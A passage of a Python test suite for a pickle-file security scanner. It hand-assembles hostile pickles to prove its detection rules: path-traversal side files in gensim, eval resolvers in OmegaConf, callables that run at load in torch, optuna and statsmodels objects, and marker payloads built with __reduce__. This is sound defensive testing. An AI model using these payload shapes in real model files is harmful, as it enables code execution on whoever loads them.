    from gensim.corpora.lowcorpus import LowCorpus
    from gensim.models import Word2Vec
    from gensim.models.coherencemodel import CoherenceModel

    slotted = ({}, {"topics": [["a"]]})
    assert "WS-PKL-023" in _rules(tmp_path / "allowed", _dump(_restored(Word2Vec, slotted)))
    assert "WS-PKL-023" in _rules(tmp_path / "coherence", _dump(_restored(CoherenceModel, slotted)))
    unknown = _rules(tmp_path / "unknown", _dump(_restored(LowCorpus, slotted)))
    assert "WS-PKL-003" in unknown and "WS-PKL-023" not in unknown
    plain = _restored(Word2Vec, ({}, {}))
    assert not _rules(tmp_path / "empty", _dump(plain))


def test_second_review_shapes_are_high(tmp_path: Path) -> None:
    """A second review's bypasses, each flagged now: a state-only class kept as a value while the stream also
    restores one (WS-PKL-022 looks at every use), slot state computed by dict(...) or tuple(...) (WS-PKL-023),
    and boosters called with a model file outside the folder (their constructors read it: WS-PKL-014)."""

    import lightgbm
    import xgboost
    from optuna.study.study import Study
    from sklearn.gaussian_process.kernels import RBF
    from sklearn.preprocessing import FunctionTransformer

    transformer = FunctionTransformer(func=Study, kw_args={"storage": "sqlite:////tmp/outside.db"})
    restored = Study.__new__(Study)  # pickled as NEWOBJ of Study and its state
    restored.__dict__["_thread_local"] = None
    assert "WS-PKL-022" in _rules(tmp_path / "kept", _dump([restored, transformer]))
    made = _restored(RBF)
    for name, state in {
        "dict": ({}, _Call(dict, ([("theta", [])],))),
        "tuple": _Call(tuple, ([{}, {"theta": []}],)),
    }.items():
        made.state = state
        assert "WS-PKL-023" in _rules(tmp_path / name, _dump(made)), name
    for booster in (lightgbm.Booster, xgboost.Booster):
        called = _Call(booster, (None, None, "/elsewhere/model.txt"))
        assert "WS-PKL-014" in _rules(tmp_path / booster.__module__, _dump(called))


def test_gensim_side_file_outside_the_folder_is_high(tmp_path: Path) -> None:
    """gensim's load unpickles `<file>.<name>.npy` for each name in the model's __scipys list; a name walking
    through a directory the folder ships leaves it. Proved with gensim's own load and a marker outside the folder;
    WS-PKL-024. A real model with side files passes (test_benign_real's w2v-big.model)."""
    import numpy as np
    from gensim.models.keyedvectors import KeyedVectors

    outside, model = tmp_path / "outside", tmp_path / "model"
    outside.mkdir()
    (model / "vectors.kv.d").mkdir(parents=True)
    marker = tmp_path / "MARKER"
    (outside / "evil.npy").write_bytes(pickle.dumps(_Marker(marker), protocol=2))
    vectors = KeyedVectors(4)
    vectors.add_vectors(["a", "b"], np.ones((2, 4), dtype=np.float32))
    vectors.__dict__["__scipys"] = ["d/../../outside/evil"]
    (model / "vectors.kv").write_bytes(pickle.dumps(vectors, protocol=4))
    load = "import sys; from gensim.models import KeyedVectors; KeyedVectors.load(sys.argv[1])"
    subprocess.run([sys.executable, "-c", load, str(model / "vectors.kv")], capture_output=True, timeout=300)
    assert marker.exists(), "gensim's load no longer follows the name: revisit WS-PKL-024"
    assert "WS-PKL-024" in _rules(tmp_path / "scan", (model / "vectors.kv").read_bytes())


def test_third_review_shapes_are_high(tmp_path: Path) -> None:
    """A third review hid the same things from the checks above, each now caught: a class kept inside a joblib
    object array's own pickle (WS-PKL-022 per stream), a side-file list changed by APPENDS after its BUILD
    (checked at the end of the stream, WS-PKL-024), an attribute named by str(...) or a state past what wscan
    reads (WS-PKL-025), slot state made by a tuple subclass (WS-PKL-023), a kept class past a long tuple's first
    4,096 items (WS-PKL-022). And an EasyDict item named by str(...), which pickle's BUILD would call if it
    spells __setstate__ (WS-PKL-021)."""
    import copyreg
    import io
    import pickletools

    import joblib
    import numpy as np
    from gensim.models import KeyedVectors
    from optuna.study.study import Study
    from sklearn.preprocessing import FunctionTransformer
    from sklearn.utils._pprint import KeyValTuple

    nested = io.BytesIO()
    joblib.dump(np.array([FunctionTransformer(func=Study)], dtype=object), nested)
    assert "WS-PKL-022" in _rules(tmp_path / "nested", nested.getvalue())

    vectors = KeyedVectors(4)
    vectors.add_vectors(["a"], np.ones((1, 4), dtype=np.float32))
    vectors.__dict__["__scipys"] = []
    data = pickle.dumps(vectors, protocol=2)
    ops = list(pickletools.genops(data))
    memo = next(ops[i + 3][1] for i, (op, arg, _) in enumerate(ops) if arg == "__scipys")
    name = b"/../../outside/evil"
    later = b"h" + bytes([memo]) + b"(X" + len(name).to_bytes(4, "little") + name + b"e0."  # BINGET, APPENDS, POP
    assert "WS-PKL-024" in _rules(tmp_path / "appended", data[:-1] + later)

    computed = _restored(KeyedVectors, {_Call(str, ("__scipys",)): ["x"]})
    assert "WS-PKL-025" in _rules(tmp_path / "computed", _dump(computed))
    crowded = _restored(KeyedVectors, {**{f"a{i}": i for i in range(4100)}, "__scipys": ["x"]})
    assert "WS-PKL-025" in _rules(tmp_path / "crowded", _dump(crowded))
    slots = _restored(KeyedVectors, KeyValTuple(({}, {"__scipys": ["/../x"]})))
    assert "WS-PKL-023" in _rules(tmp_path / "subclass", _dump(slots))
    from easydict import EasyDict

    items: dict[object, object] = {_Call(str, ("__setstate__",)): Study}
    named = _Call(copyreg._reconstructor, (EasyDict, dict, {}), None, items)  # type: ignore[attr-defined]
    assert "WS-PKL-021" in _rules(tmp_path / "item", _dump(named))
    long_tuple = tuple([("k", i) for i in range(4100)] + [("func", Study)])
    assert "WS-PKL-022" in _rules(tmp_path / "long", _dump(_restored(FunctionTransformer, _Call(dict, (long_tuple,)))))


def test_a_state_mapping_made_by_a_call_is_unread(tmp_path: Path) -> None:
    """A fourth review hid gensim's side-file lists in a (mapping, {}) BUILD state whose mapping is made by a call,
    OrderedDict() filled by SETITEMS or dict([...]): pickle copies its items into the instance's dict, and
    KeyedVectors.load read (and for __scipys unpickled) a file outside the folder. WS-PKL-025."""
    from collections import OrderedDict

    from gensim.models import KeyedVectors

    ordered = _Call(OrderedDict, (), None, {"__numpys": ["d/../../outside/secret"]})
    assert "WS-PKL-025" in _rules(tmp_path / "ordered", _dump(_restored(KeyedVectors, (ordered, {}))))
    made = _Call(dict, ([("__scipys", ["d/../../outside/x"])],))
    assert "WS-PKL-025" in _rules(tmp_path / "dict", _dump(_restored(KeyedVectors, (made, {}))))


class _Marker:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[Path]]:
        return (Path.touch, (Path(self.path),))


def test_optuna_cma_es_study_unpickles_its_trials_when_resumed(tmp_path: Path) -> None:
    """An in-memory study passes (optuna's documented joblib.dump(study)). With the CMA-ES sampler, resuming it
    unpickles the hex string a trial's system attributes hold: a file that ran nothing at load ran the marker at
    study.optimize. So CmaEsSampler is not on the allowlist: such a study is high."""
    import joblib
    import optuna

    optuna.logging.set_verbosity(optuna.logging.WARNING)

    def objective(trial: optuna.Trial) -> float:
        return trial.suggest_float("x", -1, 1) ** 2 + trial.suggest_float("y", -1, 1) ** 2

    plain = optuna.create_study(sampler=optuna.samplers.RandomSampler(seed=1))
    plain.optimize(objective, n_trials=3)
    joblib.dump(plain, tmp_path / "plain.pkl")
    assert not _rules(tmp_path / "real", (tmp_path / "plain.pkl").read_bytes())

    study = optuna.create_study(sampler=optuna.samplers.CmaEsSampler(seed=1))
    study.optimize(objective, n_trials=4)
    marker = tmp_path / "MARKER"
    for trial in study._storage._studies[study._study_id].trials:  # type: ignore[attr-defined]
        trial._system_attrs["cma:optimizer:0"] = pickle.dumps(_Marker(marker)).hex()
    joblib.dump(study, tmp_path / "study.pkl")
    resume = (
        "import joblib, sys; s = joblib.load(sys.argv[1]); "
        "s.optimize(lambda t: t.suggest_float('x', -1, 1) + t.suggest_float('y', -1, 1), n_trials=1)"
    )
    command = [sys.executable, "-c", resume, str(tmp_path / "study.pkl")]
    subprocess.run(command, cwd=tmp_path, capture_output=True, timeout=300)
    assert marker.exists(), "resuming the study no longer unpickles its trials: revisit the CMA-ES exclusion"
    found = scan_bytes(tmp_path / "hostile", (tmp_path / "study.pkl").read_bytes(), "study.pkl").findings
    assert any(f.rule_id == "WS-PKL-003" and "CmaEsSampler" in f.message for f in found)


def test_a_call_laundered_through_an_allowed_helper_is_a_dynamic_call(tmp_path: Path) -> None:
    """numpy's __generator_ctor(name, ctor) runs ctor(name), and torch's _rebuild_from_type_v2(func, ...) runs
    func(*args): an object passed there (a joblib Parallel, a deprecation wrapper) is called at load."""
    from numpy.random._pickle import __generator_ctor as generator_ctor
    from sklearn.utils.deprecation import deprecated
    from sklearn.utils.parallel import Parallel
    from torch._tensor import _rebuild_from_type_v2

    parallel = _Call(Parallel, (2,))
    assert "WS-PKL-005" in _rules(tmp_path / "a", _dump(_Call(generator_ctor, ([], parallel))))
    wrapper = _Call(deprecated, ("patched by a pickle",))
    assert "WS-PKL-005" in _rules(tmp_path / "b", _dump(_Call(generator_ctor, (dict, wrapper))))
    assert "WS-PKL-005" in _rules(tmp_path / "c", _dump(_Call(_rebuild_from_type_v2, (parallel, None, (), {}))))


def test_a_score_function_passes_as_a_value_but_not_as_a_call(tmp_path: Path) -> None:
    import numpy as np
    from sklearn.metrics import accuracy_score

    assert not _rules(tmp_path / "a", pickle.dumps({"pool": np.mean, "score": accuracy_score}))
    assert "WS-PKL-003" in _rules(tmp_path / "b", _dump(_Call(np.mean, ([1.0, 2.0],))))
    assert "WS-PKL-003" in _rules(tmp_path / "c", _dump(_Call(accuracy_score, ([1], [1]))))


def test_copyreg_reconstructor_runs_its_base_init(tmp_path: Path) -> None:
    """copyreg._reconstructor(cls, base, state) calls base.__init__(obj, state) unless base is object."""
    import copyreg

    from transformers.training_args import TrainingArguments

    blob = _dump(_Call(copyreg._reconstructor, (TrainingArguments, TrainingArguments, str(tmp_path))))  # type: ignore[attr-defined]
    assert "WS-PKL-014" in _rules(tmp_path, blob)


def test_partial_and_defaultdict_calls_are_judged(tmp_path: Path) -> None:
    """A defaultdict calls its factory on the first missing key, and allowlisted code looks keys up at load
    (NumPy's MT19937 state setter reads value['state']['key']): defaultdict(partial(F, ...)) runs F(...)
    with no opcode of its own. F is judged as called, and an object in F's place is a computed call."""
    import collections
    import functools

    import numpy as np
    from numpy.random.mtrand import RandomState
    from sklearn.linear_model import LogisticRegression
    from sklearn.utils.deprecation import deprecated
    from transformers.training_args import TrainingArguments

    marker = tmp_path / "factory-ran"
    factory = functools.partial(TrainingArguments, output_dir=str(tmp_path / "out"), report_to="none",
                                torch_compile_backend="inductor", torch_compile_mode="wscan_marker")  # fmt: skip
    state = {"bit_generator": "MT19937", "state": collections.defaultdict(factory)}
    blob = _dump(_Call(RandomState, (), state))
    sample = tmp_path / "rng.pkl"
    sample.write_bytes(blob)
    probe = "import os, pickle, sys\ntry:\n    pickle.load(open(sys.argv[1], 'rb'))\nexcept Exception:\n    pass\n"
    probe += f"open({str(marker)!r}, 'w').write(os.environ.get('ACCELERATE_DYNAMO_MODE', ''))\n"
    subprocess.run([sys.executable, "-I", "-c", probe, str(sample)], cwd=tmp_path, timeout=300, check=True)
    assert marker.read_text() == "wscan_marker", "the defaultdict factory did not run at load"
    assert "WS-PKL-014" in _rules(tmp_path / "a", blob)

    patched = _Call(functools.partial, (_Call(deprecated, ("patched",)), LogisticRegression))
    laundered = _Call(collections.defaultdict, (patched,))
    blob = _dump(_Call(RandomState, (), {"bit_generator": "MT19937", "state": laundered}))
    assert "WS-PKL-005" in _rules(tmp_path / "b", blob)
    # copyreg.__newobj__(partial, F) makes the same partial as partial(F)
    newobj = b"\x80\x02ccopyreg\n__newobj__\ncfunctools\npartial\ncnumpy\nmean\n\x86R."
    assert pickle.loads(newobj).func is np.mean
    assert "WS-PKL-003" in _rules(tmp_path / "c", newobj)
    # what real files hold stays clean: nested defaultdicts, partial(check_array) (HistGradientBoosting)
    clean = {"counts": collections.defaultdict(functools.partial(collections.defaultdict, list))}
    assert not _rules(tmp_path / "d", pickle.dumps(clean))


def test_omegaconf_containers_resolve_interpolations_at_load(tmp_path: Path) -> None:
    """Two equal DictConfigs as dict keys are compared while the dict is built, and comparing resolves ${...}
    with the resolvers the loading program registered (an `eval` resolver is a common Hydra idiom). A resolver's
    name or argument can itself be computed there (${${n}:...}, oc.decode), so OmegaConf's containers stay off
    the allowlist; the resolvers strings name are judged as well."""
    from omegaconf import OmegaConf

    marker = tmp_path / "resolved"
    code = '__import__("pathlib").Path("' + str(marker) + '").write_text("x")'
    payload = "${eval:'" + code + "'}"
    first, second = OmegaConf.create({"x": payload}), OmegaConf.create({"x": payload})
    blob = _dump(_Call(dict, ([(first, 1), (second, 2)],)))
    sample = tmp_path / "hparams.pkl"
    sample.write_bytes(blob)
    loader = "import pickle, sys\nfrom omegaconf import OmegaConf\nOmegaConf.register_new_resolver('eval', eval)\n"
    loader += "pickle.load(open(sys.argv[1], 'rb'))\n"
    subprocess.run([sys.executable, "-I", "-c", loader, str(sample)], cwd=tmp_path, timeout=120, check=True)
    assert marker.exists(), "comparing DictConfigs no longer resolves interpolations: revisit the allowlist"
    assert _rules(tmp_path / "scan", blob) == {"WS-PKL-003", "WS-PKL-015"}

    computed = {"n": "eval", "x": "${${n}:'" + code + "'}"}  # the name is only known when the value resolves
    assert "WS-PKL-003" in _rules(tmp_path / "computed", pickle.dumps(OmegaConf.create(computed)))
    assert _rules(tmp_path / "computed-plain", pickle.dumps(computed)) == {"WS-PKL-015"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("pad " * 5000 + "${eval:1}", {("WS-PKL-015", Severity.HIGH)}),  # past the 4 KiB the machine keeps
        ("${mine:4}", {("WS-PKL-016", Severity.MEDIUM)}),
        ("${now:%Y-%m-%d} ${oc.env:HOME,/tmp} ${hydra:runtime.cwd} ${lr} ${PYTHON:-python3}", set()),
    ],
    ids=["long-text", "own-resolver", "hydra-and-shell"],
)
def test_config_resolvers_in_pickled_strings(tmp_path: Path, value: str, expected: set[tuple[str, Severity]]) -> None:
    found = scan_bytes(tmp_path, pickle.dumps({"hyper_parameters": {"x": value}}), "model.pkl").findings
    assert {(f.rule_id, f.severity) for f in found} == expected


def test_a_partial_or_defaultdict_given_its_callable_by_build_is_judged(tmp_path: Path) -> None:
    """partial(dict), then BUILD with a state tuple made by a call (builtins.tuple([F, ...])): the machine cannot
    read which callable the partial gets, so that is a call of an unknown callable. A defaultdict's factory can
    be set from BUILD's slot state, which real files never do."""
    import collections
    import functools

    from transformers.training_args import TrainingArguments

    state = _Call(tuple, ([TrainingArguments, (), {"output_dir": "x"}, None],))
    blob = _dump(_Call(functools.partial, (dict,), state))
    assert "WS-PKL-005" in _rules(tmp_path / "partial", blob)
    slot = _dump(_Call(collections.defaultdict, (), (None, {"default_factory": TrainingArguments})))
    assert "WS-PKL-005" in _rules(tmp_path / "defaultdict", slot)


def test_arrow_extension_types_stay_unknown(tmp_path: Path) -> None:
    """pyarrow's array and table rebuilders are allowed (pandas 3 keeps strings there), extension types are not:
    an extension type deserializes a payload of its own (PyExtensionType unpickled it, CVE-2023-47248), so the
    class a pickle names for one is judged like any unknown import."""
    import pyarrow as pa

    class Payload(pa.ExtensionType):
        def __init__(self) -> None:
            super().__init__(pa.binary(), "wscan.payload")

        def __arrow_ext_serialize__(self) -> bytes:
            return b""

        @classmethod
        def __arrow_ext_deserialize__(cls, storage_type: object, serialized: bytes) -> Payload:
            return cls()

    Payload.__module__, Payload.__qualname__ = __name__, "_PayloadType"
    globals()["_PayloadType"] = Payload  # where pickle looks the class up by the name it records
    array = pa.ExtensionArray.from_storage(Payload(), pa.array([b"x"]))
    found = scan_bytes(tmp_path, pickle.dumps(pa.table({"a": array}), protocol=5), "table.pkl").findings
    flagged = {f.evidence.get("callable") for f in found if f.rule_id == "WS-PKL-003"}
    assert flagged == {f"{__name__}._PayloadType"}, [f.message for f in found]
    assert not _rules(tmp_path / "plain", pickle.dumps(pa.table({"a": [1]})))


# --- hand-assembled streams (a review of the torch.nn allowlist proved each shape with the real loaders) ----------


def _assert_flagged(tmp_path: Path, stream: bytes, name: str, rule: str) -> None:
    """The hand-made pickle `stream`, scanned as a file called `name`, has `rule` among its high findings."""
    found = scan_bytes(tmp_path, stream, name).findings
    flagged = {f.rule_id for f in found if f.severity >= Severity.HIGH}
    assert rule in flagged, [f"{f.rule_id}: {f.message}" for f in found]


def _tuple(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _dict(*pairs: tuple[bytes, bytes]) -> bytes:
    return b"}" + (b"(" + b"".join(k + v for k, v in pairs) + b"u" if pairs else b"")


def _legacy_torch(main: bytes) -> bytes:
    """A legacy (non-zip) torch.save file around one hand-made main pickle, with no storages."""
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    head = b"".join(pickle.dumps(v, protocol=2) for v in (0x1950A86A20F9469CFC6C, 1001, sys_info))
    return head + main + b"\x80\x02]."


def _load_in_subprocess(path: Path, how: str) -> None:
    code = {
        "torch": "import sys, torch; torch.load(sys.argv[1], weights_only=False)",
        "pickle": "import sys, pickle; pickle.load(open(sys.argv[1], 'rb'))",
    }[how]
    subprocess.run([sys.executable, "-c", code, str(path)], cwd=path.parent, capture_output=True, timeout=300)


def test_a_legacy_module_id_patched_by_build_is_critical(tmp_path: Path) -> None:
    """Legacy torch.load returns X itself for a ('module', X, file, source) id. BUILD on it patched the real
    function (dump_patches, __name__), and a second id with other source made torch write `<__name__>.patch`
    with lines the pickle chose: a file written at load, with no finding. Now BUILD on such an id is BUILD on X."""
    target = tmp_path / "written"
    relu = _g("torch.nn.functional", "relu")
    main = b"\x80\x02" + relu + b"q\x010"
    main += _tuple(_s("module"), b"h\x01", _s(""), _s("")) + b"Q"
    main += _tuple(b"N", _dict((_s("dump_patches"), b"\x88"), (_s("__name__"), _s(str(target))))) + b"b0"
    main += _tuple(_s("module"), b"h\x01", _s("x\nattacker line\n#"), _s("other source")) + b"Q0}."
    sample = tmp_path / "legacy.pt"
    sample.write_bytes(_legacy_torch(main))
    _load_in_subprocess(sample, "torch")
    assert "attacker line" in (tmp_path / "written.patch").read_text()
    found = scan_bytes(tmp_path / "scan", sample.read_bytes(), "legacy.pt").findings
    assert "WS-PKL-006" in {f.rule_id for f in found if f.severity >= Severity.CRITICAL}


def _restored_module(cls: tuple[str, str], extra: tuple[bytes, bytes]) -> bytes:
    """cls restored as torch.save writes a layer (NEWOBJ, then BUILD of its attribute dict) with one more entry."""
    empty = _g("collections", "OrderedDict") + b")R"
    state = _dict(*[(_s(k), empty) for k in ("_parameters", "_buffers", "_modules", "_forward_hooks")], extra)
    return _g(*cls) + b")\x81" + state + b"b"


def test_callables_in_restored_state_run_when_the_object_changes_later(tmp_path: Path) -> None:
    """Restored state sits in the instance's dict, ahead of the class's methods: a ModuleDict whose state holds
    add_module=F runs F(key, value) on a later SETITEMS (proved with os.mkdir), a second BUILD runs a stored
    __setstate__, an argparse.Namespace's stored `extend` runs on APPENDS. No writer changes an object after
    restoring its state (WS-PKL-018), and callables in that state are judged as called: a layer constructor
    (state-only, WS-PKL-014), F.relu (referenced only, WS-PKL-003)."""
    module_dict = ("torch.nn.modules.container", "ModuleDict")
    marker = tmp_path / "made-by-setitems"
    proof = b"\x80\x02" + _restored_module(module_dict, (_s("add_module"), _g("os", "mkdir")))
    proof += b"(" + _s(str(marker)) + b"J\xed\x01\x00\x00u."
    (tmp_path / "proof.pkl").write_bytes(proof)
    _load_in_subprocess(tmp_path / "proof.pkl", "pickle")
    assert marker.is_dir(), "SETITEMS did not call the add_module stored in the state"

    linear = _g("torch.nn.modules.linear", "Linear")
    setitems = _restored_module(module_dict, (_s("add_module"), linear)) + b"(K\x03K\x03u"
    second_build = _restored_module(("torch.nn.modules.linear", "Identity"), (_s("__setstate__"), linear))
    second_build += b"(K\x03K\x03tb"
    namespace = _g("argparse", "Namespace") + b")R" + _dict((_s("extend"), _g("torch.nn.functional", "relu")))
    namespace += b"b(K\x01e"
    for name, body, called in (("setitems", setitems, "WS-PKL-014"), ("second-build", second_build, "WS-PKL-014"),
                               ("namespace", namespace, "WS-PKL-003")):  # fmt: skip
        assert {"WS-PKL-018", called} <= _rules(tmp_path / name, b"\x80\x02" + body + b"."), name
    real = io.BytesIO()
    import torch

    torch.save(torch.nn.ModuleDict({"a": torch.nn.Linear(2, 2)}), real)
    assert not _rules(tmp_path / "real", real.getvalue())


def test_forwarders_are_followed_through_partials(tmp_path: Path) -> None:
    """partial(_rebuild_from_type_v2, Linear, Linear, (n, n), {}) called by an outer _rebuild_from_type_v2 runs
    Linear(n, n): a partial of a forwarder forwards too, and so does the callable a forwarder calls with
    arguments (_rebuild_from_type_v2(partial, type, (F, ...), state) calls partial(F, ...))."""
    rebuild, linear = _g("torch._tensor", "_rebuild_from_type_v2"), _g("torch.nn.modules.linear", "Linear")
    inner = _g("functools", "partial") + _tuple(rebuild, linear, linear, _tuple(b"K\x03", b"K\x03"), b"}") + b"R"
    nested = b"\x80\x02" + rebuild + _tuple(inner, linear, b")", b"}") + b"R."
    assert "WS-PKL-014" in _rules(tmp_path / "nested", nested)
    partial = _g("functools", "partial")
    through = b"\x80\x02" + rebuild + _tuple(partial, partial, _tuple(linear, b"K\x03", b"K\x03"), b"}") + b"R."
    assert "WS-PKL-014" in _rules(tmp_path / "through", through)


@pytest.mark.parametrize("cls", ["skorch.classifier.NeuralNetClassifier", "skorch.net.NeuralNet"])
def test_library_classes_that_run_their_state_are_critical(tmp_path: Path, cls: str) -> None:
    """skorch's nets unpickle the bytes their state holds: restored from state alone, they are carriers (a review
    proved it with the real library, which is not a test dependency)."""
    module, name = cls.rsplit(".", 1)
    blob = b"\x80\x02" + _g(module, name) + b")\x81" + _dict((_s("formula"), _s("y ~ x"))) + b"b."
    found = scan_bytes(tmp_path, blob, "results.pickle").findings
    assert [f.rule_id for f in found if f.severity >= Severity.CRITICAL] == ["WS-PKL-013"]


STATSMODELS = Path(__file__).parent / "data" / "statsmodels"


@pytest.mark.parametrize(
    ("state", "critical"),
    [
        ((_s("nobs"), b"K\x01"), False),  # a state without the ask only fills the object's dict
        # a formula alone is what a results object's predict() evaluates, the model's or any object's (review 67)
        ((_s("formula"), _s("y ~ x")), True),
        ((_s("restore_model_spec"), b"\x88", _s("formula"), _s("y ~ x")), True),  # statsmodels 0.15
        ((_s("restore_design_info"), b"\x88", _s("formula"), _s("y ~ x")), True),  # before 0.15 (patsy)
    ],
)
def test_statsmodels_data_is_critical_when_its_state_asks_for_the_formula(
    tmp_path: Path, state: tuple[bytes, ...], critical: bool
) -> None:
    """Review 61: ModelData.__setstate__ evaluates the formula only when the state holds `restore_model_spec`
    (`restore_design_info` before 0.15); 22 statsmodels files fitted from arrays were critical without one."""
    pairs = zip(state[::2], state[1::2], strict=True)
    blob = b"\x80\x02" + _g("statsmodels.base.data", "PandasData") + b")\x81" + _dict(*pairs) + b"b."
    found = scan_bytes(tmp_path, blob, "results.pickle").findings
    assert {f.rule_id for f in found if f.severity >= Severity.CRITICAL} == ({"WS-PKL-051"} if critical else set())


def test_statsmodels_state_names_that_cannot_be_read_may_ask_for_the_formula(tmp_path: Path) -> None:
    computed = _g("builtins", "str") + _tuple(_s("restore_model_spec")) + b"R"  # a key the machine does not read
    blob = b"\x80\x02" + _g("statsmodels.base.data", "ModelData") + b")\x81}" + computed + b"\x88sb."
    found = scan_bytes(tmp_path, blob, "results.pickle").findings
    assert "WS-PKL-051" in {f.rule_id for f in found}


@pytest.mark.parametrize(
    ("name", "critical"),
    [("ols.pickle", False), ("ols_formula.pickle", True), ("hostile_formula.pickle", True)],
)
def test_real_statsmodels_results_are_judged_by_their_formula(name: str, critical: bool) -> None:
    """Files statsmodels 0.15 wrote (tests/data/statsmodels/README.md): the formula models' state asks for the
    formula (the hostile one's code ran under pickle.load); the OLS fitted from arrays passes (rules/allow-stats.yaml,
    review 61: every statsmodels file was high for its classes)."""
    found = scan(STATSMODELS / name).findings
    high = {f.rule_id for f in found if f.severity >= Severity.HIGH}
    assert high == ({"WS-PKL-051"} if critical else set())


@pytest.mark.parametrize("name", ["sklearnclf_patsy.pkl", "pyod_cblof_patsy.pkl", "pyod_lscp_patsy.pkl"])
def test_a_statsmodels_model_of_another_library_is_high(name: str) -> None:
    """Helper 264 (tests/data/statsmodels/hostile_model/README.md): a Series labelled `formula` and `model_spec` as
    a real results object's model answers predict()'s lookups, and NLTK's classify() and PyOD's decision_function()
    ran its formula's code; no state names either."""
    found = scan(STATSMODELS / "hostile_model" / name).findings
    assert "WS-PKL-066" in {f.rule_id for f in found if f.severity >= Severity.HIGH}


@pytest.mark.parametrize(
    ("value", "high"),
    [
        (_g("statsmodels.regression.linear_model", "OLS") + b")\x81", False),  # the model statsmodels keeps
        (_g("pandas.core.series", "Series") + b")\x81", True),
        (_g("statsmodels.regression.linear_model", "OLS"), True),  # the class itself, not a model
        (_g("copy", "deepcopy") + _tuple(_g("statsmodels.regression.linear_model", "OLS") + b")\x81") + b"R", True),
    ],
    ids=["statsmodels-model", "series", "class", "computed"],
)
def test_a_results_model_must_be_statsmodels_own(tmp_path: Path, value: bytes, high: bool) -> None:
    results = _g("statsmodels.regression.linear_model", "OLSResults") + b")\x81"
    blob = b"\x80\x02" + results + _dict((_s("model"), value)) + b"b."
    found = scan_bytes(tmp_path, blob, "results.pickle").findings
    assert ("WS-PKL-066" in {f.rule_id for f in found}) == high


RIVER = Path(__file__).parent / "data" / "river"
SKTIME = Path(__file__).parent / "data" / "sktime"
OLD_STATS = Path(__file__).parent / "data" / "old_stats"  # older versions' names (README.md there)
STATS_FILES = sorted(
    [*RIVER.glob("*.pkl"), *SKTIME.glob("*.pkl"), *SKTIME.glob("*.zip"), *STATSMODELS.glob("*_removed.pickle"),
     STATSMODELS / "model_ols.pkl", *OLD_STATS.glob("*/*.p*"), *OLD_STATS.glob("*/*.zip")]
)



def _stats_id(path: Path) -> str:
    return f"{'old' if path.parent.parent == OLD_STATS else path.parent.name}/{path.name}"


@pytest.mark.parametrize("path", STATS_FILES, ids=_stats_id)
def test_real_statsmodels_sktime_and_river_files_pass(path: Path) -> None:
    """Review 61: every pickle statsmodels, sktime and river wrote was high (no allowlist held their classes) and
    some critical (river's KMeans keeps partial(rng.gauss, 0, 1), which pickle writes as getattr on the RNG), or high
    for attributes named like methods: a river model's `loss`, a GLM family's `variance`, the regression `weights`
    and ARF's `metric` (WS-PKL-026, WS-PKL-027). The files are the libraries' own (READMEs beside them)."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


SB3 = Path(__file__).parent / "data" / "sb3"


@pytest.mark.parametrize("name", ["a2c.zip", "dqn_replay_buffer.pkl", "vec_normalize.pkl", "ppo_policy.pth",
                                  "ppo_dict_multidiscrete_data.zip", "ppo_dict_multibinary_data.zip",
                                  "dqn_dict_data.zip", "dqn_dict_replay_buffer.pkl", "td3_dict_data.zip",
                                  "sac_her_data.zip", "sac_her_replay_buffer.pkl", "td3_noise_data.zip"])
def test_real_stable_baselines3_saves_pass(name: str) -> None:
    """Review 68: stable-baselines3's own saves (tests/data/sb3/README.md), the `data` member's cloudpickles
    included, hold only its classes, gymnasium's spaces and NumPy (rules/allow-sb3.yaml). Review 74's sweep: models
    of Dict observations (MultiInputPolicy) with MultiDiscrete or MultiBinary actions were high; review 75: so were
    SAC's, TD3's and DDPG's, and hindsight experience replay's buffer."""
    found = scan(SB3 / name).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def test_a_space_called_with_arguments_is_high(tmp_path: Path) -> None:
    """Real saves restore gymnasium's spaces from state; one called with arguments the file chose is WS-PKL-014."""
    body = _g("gymnasium.spaces.dict", "Dict") + _tuple(_dict()) + b"R"
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "space.pkl").findings
    assert "WS-PKL-014" in {f.rule_id for f in found if f.severity >= Severity.HIGH}


def _with_serialized(source: Path, target: Path, key: str, blob: bytes, padding: int = 0) -> Path:
    """A copy of a stable-baselines3 zip whose data JSON holds `blob` as `key`'s cloudpickle, after `padding`
    characters of a docstring (the real file keeps the policy class's docstring there)."""
    with zipfile.ZipFile(source) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    data = json.loads(members["data"])
    first = {"__doc__": "x" * padding} if padding else {}
    data = {**first, **data, key: {":type:": "<class 'function'>", ":serialized:": base64.b64encode(blob).decode()}}
    members["data"] = json.dumps(data).encode()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target


def _with_data(source: Path, target: Path, **values: object) -> Path:
    """A copy of a stable-baselines3 zip whose data JSON also holds `values`, as plain JSON."""
    with zipfile.ZipFile(source) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["data"] = json.dumps({**json.loads(members["data"]), **values}).encode()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target


@pytest.mark.parametrize(
    ("key", "blob", "rule"),
    [
        # review 75: the loader sets every data key on the model, then calls set_random_seed(self.seed)
        ("set_random_seed", pickle.dumps(print, protocol=4), "WS-REPO-033"),
        ("predict", pickle.dumps(print, protocol=4), "WS-REPO-033"),
        # a key stable-baselines3's save always leaves out
        ("env", pickle.dumps(None, protocol=4), "WS-REPO-034"),
        # review 76: the loader calls policy_class with policy_kwargs, and a features extractor class with its
        # kwargs: print there printed the file's text (passed as a value elsewhere, it is high in data)
        ("policy_class", pickle.dumps(print, protocol=4), "WS-PKL-053"),
        ("policy_kwargs", pickle.dumps({"features_extractor_class": print, "features_extractor_kwargs": {}}),
         "WS-PKL-053"),
    ],
    ids=["set-random-seed", "predict", "env-serialized", "policy-class-print", "extractor-print"],
)
def test_a_stable_baselines3_data_key_is_judged_as_the_model_attribute_it_becomes(
    tmp_path: Path, key: str, blob: bytes, rule: str
) -> None:
    path = _with_serialized(SB3 / "a2c.zip", tmp_path / "model.zip", key, blob)
